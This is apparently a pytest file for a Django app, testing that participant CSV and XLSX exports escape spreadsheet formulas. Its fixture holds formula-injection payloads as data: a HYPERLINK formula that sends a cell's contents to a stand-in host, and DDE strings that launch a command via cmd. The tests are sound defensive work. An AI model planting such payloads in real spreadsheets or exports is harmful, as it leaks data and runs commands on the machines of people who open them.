"""A delegation's export is data, never formulas that a spreadsheet would run."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from participants.models import Participant
from tests.factories import OrganiserFactory, ParticipantFactory
from tests.scenarios import paris_rouen_programme

pytestmark = pytest.mark.django_db

EXPORT_URL = "admin:participants_participant_export"
CSV_FORMAT, XLSX_FORMAT = "0", "1"
HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Programme")'


@pytest.fixture
def visit():
    visit = paris_rouen_programme()
    ParticipantFactory(
        bare=True,
        visit=visit,
        name_latin=HYPERLINK,
        name_native="@SUM(1+1)*cmd|' /C calc'!A0",
        home_organisation='+HYPERLINK("https://evil.example")',
        position="-2+3+cmd|' /C calc'!A0",
        city="\t=1+1",
        phone="+7 900 000 00 01",
        preferred_language="ru",
    )
    return visit


def exported(client, visit, file_format: str) -> bytes:
    client.force_login(OrganiserFactory(username="anna", organisation=visit.organiser))
    page = client.get(reverse(EXPORT_URL))
    form = page.context["form"]
    data = {name: "on" for name in form.fields if name.startswith("participantresource_")}
    data |= {"format": file_format, "resource": "0"}
    response = client.post(reverse(EXPORT_URL), data)
    assert response["Content-Disposition"].startswith("attachment"), response.content[:500]
    return response.content


EXPECTED = {
    "Name (Latin)": "'" + HYPERLINK,
    "Name (own script)": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "Organisation": '\'+HYPERLINK("https://evil.example")',
    "Position": "'-2+3+cmd|' /C calc'!A0",
    "City": "'\t=1+1",
    # A phone number is a number to a spreadsheet, not a formula: it stays as typed.
    "Phone": "+7 900 000 00 01",
}


def test_the_csv_export_quotes_every_formula(client, visit):
    content = exported(client, visit, CSV_FORMAT).decode("utf-8-sig")

    row = next(csv.DictReader(io.StringIO(content)))

    assert {header: row[header] for header in EXPECTED} == EXPECTED


def test_the_xlsx_export_holds_text_not_formulas(client, visit):
    book = openpyxl.load_workbook(io.BytesIO(exported(client, visit, XLSX_FORMAT)))
    sheet = book.active

    headers = [cell.value for cell in sheet[1]]
    cells = dict(zip(headers, sheet[2], strict=True))

    assert {header: cells[header].value for header in EXPECTED} == EXPECTED
    assert [cell.coordinate for cell in sheet[2] if cell.data_type == "f"] == []


def test_an_exported_sheet_imports_again_as_it_was_typed(visit):
    from participants.imports import ParticipantResource

    dataset = ParticipantResource(visit=visit).export(queryset=Participant.objects.all())
    other = paris_rouen_programme(slug="paris-2020")
    resource = ParticipantResource(visit=other)

    result = resource.import_data(dataset, dry_run=False, raise_errors=True)

    assert not result.has_errors()
    copy = Participant.objects.get(visit=other)
    assert (copy.name_latin, copy.position, copy.city) == (
        HYPERLINK,
        "-2+3+cmd|' /C calc'!A0",
        "=1+1",
    )
